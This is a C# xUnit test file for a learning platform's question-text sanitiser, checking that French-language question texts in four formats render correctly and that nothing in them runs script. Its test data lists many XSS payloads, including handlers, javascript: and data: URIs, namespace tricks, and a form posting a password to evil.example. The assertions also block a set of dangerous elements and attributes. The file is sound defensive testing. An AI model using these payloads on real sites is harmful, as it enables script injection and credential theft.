using AngleSharp.Html.Parser;
using Learning.Modules.Assessment.Questions;
using Xunit;

namespace Learning.Tests.Assessment;

/// <summary>Question texts render as their authors wrote them, and nothing in them runs in a learner's browser.</summary>
public sealed class QuestionTextTests
{
    [Fact]
    public void Each_format_renders_as_written()
    {
        var html = QuestionText.ToHtml("<p>Les <strong>freins</strong> :</p><ul><li>garde</li></ul><table><tr><th scope=\"col\">Jour</th></tr><tr><td>Lundi</td></tr></table><img src=\"/media/a.png\" alt=\"Affiche\">", TextFormat.Html);
        Assert.Contains("<strong>freins</strong>", html);
        Assert.Contains("<li>garde</li>", html);
        Assert.Contains("<th scope=\"col\">Jour</th>", html);
        Assert.Contains("<img src=\"/media/a.png\" alt=\"Affiche\">", html);

        Assert.Contains("<strong>À retenir</strong>", QuestionText.ToHtml("**À retenir** :\n\n- un\n- deux", TextFormat.Markdown));
        Assert.Contains("<li>deux</li>", QuestionText.ToHtml("**À retenir** :\n\n- un\n- deux", TextFormat.Markdown));
        Assert.Equal("Première ligne<br>Seconde <em>ligne</em>", QuestionText.ToHtml("Première ligne\nSeconde <em>ligne</em>", TextFormat.Moodle));
        Assert.Equal("Le code &lt;statut&gt; &amp; le reste", QuestionText.ToHtml("Le code <statut> & le reste", TextFormat.Plain));
        Assert.Equal("Combien coûte 10 € ? Affiche", QuestionText.ToPlain("<p>Combien coûte <b>10 &#8364;</b> ?</p><img src=\"/media/a.png\" alt=\"Affiche\">", TextFormat.Html));
    }

    /// <summary>What people who try it write: scripts, handlers, hostile links, frames, styles, forms, each hidden in
    /// the ways sanitisers have been fooled (case, entities, broken tags, SVG and MathML namespaces).</summary>
    public static TheoryData<string> Hostile =>
    [
        "<script>alert(1)</script>Texte",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\" alt=\"x\">",
        "<a href=\"javascript:alert(1)\">lien</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">lien</a>",
        "<a href=\"&#106;avascript:alert(1)\">lien</a>",
        "<a href=\"java\tscript:alert(1)\">lien</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">lien</a>",
        "<a href=\"vbscript:msgbox(1)\">lien</a>",
        "<svg onload=alert(1)><circle r=1></circle></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
        "<style>body{display:none}</style><p style=\"position:fixed;top:0\">plein écran</p>",
        "<form action=\"https://evil.example\"><input name=password></form>",
        "<p onclick=\"alert(1)\" onmouseover=alert(1)>clic</p>",
        "<div><img src=\"x\" alt=\"a\" onerror=\"alert(1)\"/></div>",
        "<a href=\"https://ok.example\" target=\"_blank\" rel=\"opener\">ok</a>",
        "<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<<script>script>alert(1)<</script>/script>",
        "[lien](javascript:alert(1)) et ![image](javascript:alert(1))",
        "<details open ontoggle=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Nothing_in_a_question_can_run_script_whatever_its_format(string hostile)
    {
        var parser = new HtmlParser();
        foreach (var format in Enum.GetValues<TextFormat>())
        {
            var document = parser.ParseDocument("<body>" + QuestionText.ToHtml(hostile, format) + "</body>");
            foreach (var element in document.Body!.QuerySelectorAll("*"))
            {
                Assert.DoesNotContain(element.LocalName, new[] { "script", "iframe", "object", "embed", "style", "form", "input", "svg", "math", "base", "meta", "details", "noscript" });
                foreach (var attribute in element.Attributes)
                {
                    Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{format}: {attribute.Name} kept on <{element.LocalName}>");
                    Assert.NotEqual("style", attribute.Name);
                    Assert.NotEqual("target", attribute.Name);
                    if (attribute.Name is "href" or "src")
                    {
                        var scheme = attribute.Value.Trim().ToLowerInvariant();
                        Assert.True(scheme.StartsWith("https:") || scheme.StartsWith("http:") || scheme.StartsWith('/') || scheme.StartsWith('#') || !scheme.Contains(':'),
                            $"{format}: {attribute.Name}=\"{attribute.Value}\" kept on <{element.LocalName}>");
                    }
                }
            }
        }
    }

    [Fact]
    public void A_text_too_long_or_nested_too_deep_to_show_quickly_is_refused_and_ordinary_markup_is_not()
    {
        var deep = string.Concat(Enumerable.Repeat("<div>", 10_000)) + "x";
        Assert.Contains("nests its elements", QuestionText.Refusal(deep, TextFormat.Html));
        Assert.Contains("nests its elements", QuestionText.Refusal(string.Concat(Enumerable.Repeat("<b>", 500)), TextFormat.Moodle));
        Assert.Contains("longer than", QuestionText.Refusal(new string('a', QuestionText.MaxLength + 1), TextFormat.Plain));
        Assert.Contains("Markdown", QuestionText.Refusal(new string('>', 5_000) + " x", TextFormat.Markdown));

        var table = "<table>" + string.Concat(Enumerable.Repeat("<tr><td><p>x<br></p></td><td><ul><li>a<li>b</ul></td></tr>", 200)) + "</table>";
        Assert.Null(QuestionText.Refusal(table, TextFormat.Html));
        Assert.Null(QuestionText.Refusal("<p>Les <strong>freins</strong> <img src=\"/media/a.png\" alt=\"\"></p><p>Suite", TextFormat.Html));
        Assert.Null(QuestionText.Refusal(deep, TextFormat.Plain)); // plain text shows tags as text: nothing is parsed
    }
}
